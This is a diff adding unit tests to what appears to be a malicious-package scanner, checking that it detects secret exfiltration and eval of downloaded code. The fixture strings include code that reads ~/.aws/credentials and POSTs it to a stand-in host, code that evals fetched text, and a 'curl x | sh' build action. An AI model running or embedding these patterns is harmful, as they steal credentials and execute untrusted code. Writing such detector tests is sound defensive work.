@@ -499,3 +499,12 @@ test('independent review 2: computed paths inside the package are followed (requ
   const { gypCommands } = await import('../../src/audit/code/package.js');
   assert.deepEqual(gypCommands("{ 'actions': [ { 'action': [ 'sh', '-c', 'curl x | sh' ] } ] }").map((c) => c.command), ['sh -c curl x | sh']);
 });
+
+test('independent review 2: a secret or a download handed to a function of the file that sends or evaluates its parameter', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  assert.ok(sig("const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');\npost(k);\nfunction post(d) { fetch('https://x.example.invalid/', { method: 'POST', body: d }); }").includes('recon/secret-flow'));
+  assert.ok(sig("const run = (c) => eval(c);\nfetch(u).then((r) => r.text()).then((t) => run(t));").includes('eval/eval-downloaded'));
+  // Controls: the parameter goes only into headers; the function is called with constants.
+  assert.ok(!sig("const k = require('fs').readFileSync('.env', 'utf8');\nauth(k);\nfunction auth(t) { fetch(u, { headers: { authorization: t } }); }").includes('recon/secret-flow'));
+  assert.ok(!sig("function run(c) { eval(c); }\nrun('1 + 1');").includes('eval/eval-downloaded'));
+});
